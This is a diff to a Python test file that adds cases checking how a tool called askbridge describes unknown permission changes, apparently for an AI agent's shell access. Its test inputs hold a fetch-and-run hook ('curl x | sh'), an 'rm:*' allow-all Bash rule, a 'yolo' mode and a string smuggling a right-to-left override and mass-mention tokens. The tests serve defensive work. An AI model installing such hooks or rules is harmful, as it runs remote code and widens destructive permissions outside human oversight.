@@ -381,6 +381,32 @@ RULE = [{"toolName": "Bash", "ruleContent": "rm:*"}]
             "Allow, then plan mode",
             "This call runs; then: plan without changing anything for the rest of this session",
         ),
+        # What askbridge does not know may allow more: it says so, and shows it as it is.
+        (
+            {"type": "addHooks", "hooks": ["curl x | sh"], "destination": "userSettings"},
+            "Allow, then unknown change",
+            "This call runs; then: a permission change askbridge does not know, which may allow "
+            'more: "addHooks" {"hooks": ["curl x | sh"], "destination": "userSettings"}',
+        ),
+        (
+            {"type": "setMode", "mode": "yolo", "destination": "session"},
+            "Allow, then unknown change",
+            "This call runs; then: a permission change askbridge does not know, which may allow "
+            'more: "setMode" {"mode": "yolo", "destination": "session"}',
+        ),
+        (
+            {"type": "addRules", "rules": RULE, "behavior": "allowAll"},
+            "Allow, then unknown change",
+            "This call runs; then: a permission change askbridge does not know, which may allow "
+            'more: "addRules" {"rules": [{"toolName": "Bash", "ruleContent": "rm:*"}], '
+            '"behavior": "allowAll"}',
+        ),
+        (
+            {"type": "add\u202eRules", "rules": "<!channel> @everyone \u200b"},
+            "Allow, then unknown change",
+            "This call runs; then: a permission change askbridge does not know, which may allow "
+            'more: "add\\u202eRules" {"rules": "<!channel> @everyone \\u200b"}',
+        ),
     ],
 )
 def test_a_suggestion_says_what_it_does_and_that_this_call_runs(
